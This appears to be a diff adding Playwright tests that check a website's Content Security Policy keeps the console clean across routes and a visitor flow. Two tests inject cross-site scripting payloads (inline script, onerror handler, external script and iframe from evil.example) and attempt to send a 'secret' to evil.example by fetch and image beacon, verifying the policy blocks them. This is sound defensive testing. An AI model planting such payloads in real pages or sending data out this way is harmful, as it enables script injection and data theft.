@@ -1,0 +1,80 @@
+import { expect, test } from "@playwright/test"
+import { geoAddress, mailAddress, send } from "../enquiries/visitor"
+import { hydrated, routes } from "../support"
+
+/** Everything that browsers complain about while a test runs: lines in the console, errors, broken policies. */
+const complaints = test.extend<{ said: string[] }>({
+  said: async ({ page }, use) => {
+    const said: string[] = []
+    page.on("console", (message) => {
+      if (["error", "warning"].includes(message.type())) said.push(`${message.text()} (${message.location().url})`)
+    })
+    page.on("pageerror", ({ message }) => said.push(message))
+    await page.route(geoAddress, (route) =>
+      route.fulfill({ json: { country: "Ireland" }, headers: { "access-control-allow-origin": "*" } }),
+    )
+    await use(said)
+  },
+})
+
+for (const { path } of routes)
+  complaints(`${path} leaves the console empty, under its policy`, async ({ page, said }) => {
+    await page.goto(path)
+    await hydrated(page)
+    await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveCount(1)
+    // What loads only when it comes near: pictures, carousels.
+    await page.evaluate(async () => {
+      for (let y = 0; y < document.body.scrollHeight; y += innerHeight) {
+        scrollTo(0, y)
+        await new Promise((resolve) => requestAnimationFrame(resolve))
+      }
+    })
+    await page.waitForLoadState("networkidle")
+    expect(said).toEqual([])
+  })
+
+complaints("a visit with forms, toasts, chat and navigation leaves it empty too", async ({ page, said }) => {
+  await page.route(mailAddress, (route) => route.fulfill({ body: "OK" }))
+  await send(page, "Job application")
+  await expect(page.getByText("Form submitted successfully!")).toBeVisible()
+  await page.keyboard.press("Escape")
+  await page.getByRole("button", { name: "Open the chat helper" }).click()
+  await expect(page.getByText("Hello! How can I help you?")).toBeVisible()
+  await page.getByRole("contentinfo").getByRole("link", { name: "Our Offers" }).click()
+  await expect(page).toHaveURL(/\/plans$/)
+  await send(page, "Contact")
+  await expect(page.getByText("Message sent successfully!", { exact: true }).first()).toBeVisible()
+  expect(said).toEqual([])
+})
+
+test("a script that somebody has slipped into a page is not run", async ({ page }) => {
+  const broken: string[] = []
+  page.on("console", (message) => broken.push(message.text()))
+  await page.route("**/plans", async (route) => {
+    const answer = await route.fetch()
+    const body = (await answer.text()).replace(
+      "</h1>",
+      '</h1><script>window.attacked = "by a script"</script><img src="x" onerror="window.attacked = \'by a handler\'">' +
+        '<script src="https://evil.example/x.js"></script><iframe src="https://evil.example/"></iframe>',
+    )
+    return route.fulfill({ response: answer, body })
+  })
+  await page.goto("/plans")
+  await expect.poll(() => broken.filter((line) => line.includes("Content Security Policy")).length).toBeGreaterThan(2)
+  expect(await page.evaluate(() => (window as { attacked?: string }).attacked)).toBeUndefined()
+})
+
+test("what a page sends elsewhere is stopped", async ({ page }) => {
+  await page.goto("/plans")
+  const attempt = (code: string) => page.evaluate(code)
+  expect(await attempt('fetch("https://evil.example/").then(() => "sent", () => "stopped")')).toBe("stopped")
+  const violated = await page.evaluate(
+    () =>
+      new Promise<string>((resolve) => {
+        document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => resolve(effectiveDirective))
+        const image = new Image()
+        image.src = "https://evil.example/?typed=secret"
+      }),
+  )
+  expect(violated).toBe("img-src")
+})
